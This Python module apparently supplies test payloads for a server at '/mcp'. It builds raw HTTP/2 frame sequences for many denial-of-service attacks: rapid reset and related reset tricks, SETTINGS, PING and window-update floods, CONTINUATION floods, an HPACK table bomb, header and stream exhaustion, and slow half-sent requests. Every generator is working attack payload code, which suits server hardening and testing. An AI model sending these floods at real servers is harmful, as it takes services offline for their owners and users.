"""Floods of HTTP/2: what callers send who want a server to work for nothing, frame by frame.

Each yields pieces to send, the greeting aside, for as long as the connection takes them.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import TypeAlias

from hpack import Encoder

Pieces: TypeAlias = Iterator[bytes]

GREETING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS, PADDED = 1, 4, 8
MOST = 2**31 - 1


def frame(kind: int, payload: bytes = b"", flags: int = 0, stream: int = 0) -> bytes:
    """One frame's bytes."""
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload


def block(path: str = "/mcp", method: str = "GET", *more: tuple[str, str]) -> bytes:
    """A request's header block that leaves nothing in the table."""
    fields = [(":method", method), (":scheme", "https"), (":authority", "a"), (":path", path)]
    encoder = Encoder()
    encoder.header_table_size = 0
    return bytes(encoder.encode([*fields, *more]))


GET = block()
POST = block(method="POST")


def asked(stream: int, *, ended: bool = True, what: bytes = GET) -> bytes:
    return frame(HEADERS, what, END_HEADERS | (END_STREAM if ended else 0), stream)


def streams() -> Iterator[int]:
    return iter(range(1, MOST, 2))


def again(piece: bytes, times: int = 50) -> Pieces:
    while True:
        yield piece * times


def rapid_reset() -> Pieces:
    for stream in streams():
        yield asked(stream) + frame(RESET, b"\0\0\0\x08", 0, stream)


def made_you_reset_by_window() -> Pieces:
    for stream in streams():
        yield asked(stream) + frame(WINDOW, MOST.to_bytes(4), 0, stream)


def made_you_reset_by_data() -> Pieces:
    for stream in streams():
        yield asked(stream) + frame(DATA, b"late", 0, stream)


def made_you_reset_by_no_increment() -> Pieces:
    for stream in streams():
        yield asked(stream) + frame(WINDOW, b"\0\0\0\0", 0, stream)


def malformed_requests() -> Pieces:
    bad = block("/mcp", "GET", ("connection", "close"))
    for stream in streams():
        yield asked(stream, what=bad)


def settings() -> Pieces:
    return again(frame(SETTINGS))


def settings_that_change() -> Pieces:
    change = b"\0\x04" + (70_000).to_bytes(4)
    return again(frame(SETTINGS, change) + frame(SETTINGS, b"\0\x04\0\0\xff\xff"))


def pings() -> Pieces:
    return again(frame(PING, b"12345678"))


def windows_of_the_connection() -> Pieces:
    return again(frame(WINDOW, b"\0\0\0\x01"))


def windows_of_a_stream() -> Pieces:
    yield asked(1, ended=False, what=POST)
    yield from again(frame(WINDOW, b"\0\0\0\x01", 0, 1))


def priorities() -> Pieces:
    for stream in streams():
        yield frame(PRIORITY, b"\0\0\0\0\x10", 0, stream)


def unknown_frames() -> Pieces:
    return again(frame(0xEE, b"?"))


def empty_data() -> Pieces:
    yield asked(1, ended=False, what=POST)
    yield from again(frame(DATA, b"", 0, 1))


def data_of_one_byte() -> Pieces:
    yield asked(1, ended=False, what=POST)
    yield from again(frame(DATA, b"x", 0, 1))


def data_of_padding() -> Pieces:
    yield asked(1, ended=False, what=POST)
    yield from again(frame(DATA, b"\xff" + bytes(255), PADDED, 1))


def continuations() -> Pieces:
    yield frame(HEADERS, GET, 0, 1)
    yield from again(frame(CONTINUATION, b"\0\x01a\x01b", 0, 1))


def empty_continuations() -> Pieces:
    yield frame(HEADERS, GET, 0, 1)
    yield from again(frame(CONTINUATION, b"", 0, 1))


def hpack_bomb() -> Pieces:
    fat = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"v" * 4_000
    yield asked(3, what=GET + fat)
    for stream in range(5, MOST, 2):
        yield asked(stream, what=GET + b"\xbe" * 16_000)


def huge_headers() -> Pieces:
    fat = b"".join(b"\0\x01" + b"a" + b"\x7e" + b"v" * 126 for _ in range(100))
    for stream in streams():
        yield asked(stream, what=GET + fat)


def headers_without_end() -> Pieces:
    fat = b"".join(b"\0\x01" + b"a" + b"\x7e" + b"v" * 126 for _ in range(100))
    yield frame(HEADERS, GET, 0, 1)
    yield from again(frame(CONTINUATION, fat, 0, 1), 1)


def too_many_streams() -> Pieces:
    for stream in streams():
        yield asked(stream, ended=False, what=POST)


def headers_after_the_end() -> Pieces:
    while True:
        yield asked(1)


def push_promises() -> Pieces:
    yield asked(1)
    yield from again(frame(PUSH, (2).to_bytes(4) + GET, END_HEADERS, 1))


def goaways() -> Pieces:
    yield asked(1, ended=False, what=POST)
    yield from again(frame(GOAWAY, bytes(8)))


def resets_of_what_is_closed() -> Pieces:
    yield asked(1) + frame(RESET, b"\0\0\0\x08", 0, 1)
    yield from again(frame(RESET, b"\0\0\0\x08", 0, 1))


def frames_that_are_too_long() -> Pieces:
    yield b"\xff\xff\xff\0\0\0\0\0\x01"
    yield from again(bytes(1_000))


FLOODS: tuple[Callable[[], Pieces], ...] = (
    rapid_reset,
    made_you_reset_by_window,
    made_you_reset_by_data,
    made_you_reset_by_no_increment,
    malformed_requests,
    settings,
    settings_that_change,
    pings,
    windows_of_the_connection,
    windows_of_a_stream,
    priorities,
    unknown_frames,
    empty_data,
    data_of_one_byte,
    data_of_padding,
    continuations,
    empty_continuations,
    hpack_bomb,
    huge_headers,
    headers_without_end,
    too_many_streams,
    headers_after_the_end,
    push_promises,
    goaways,
    resets_of_what_is_closed,
    frames_that_are_too_long,
)


# -- what is slow instead of much: a few bytes, and then nothing


def half_a_preface() -> bytes:
    return GREETING[:9]


def half_a_header_block() -> bytes:
    return GREETING + frame(HEADERS, GET, 0, 1)


def half_a_body() -> bytes:
    return GREETING + asked(1, ended=False, what=POST)


def no_window() -> bytes:
    """Ask for much, and take none of it."""
    shut = frame(SETTINGS, b"\0\x04\0\0\0\0")
    return GREETING + shut + b"".join(asked(1 + 2 * one) for one in range(40))


SLOW: tuple[Callable[[], bytes], ...] = (
    half_a_preface,
    half_a_header_block,
    half_a_body,
    no_window,
)
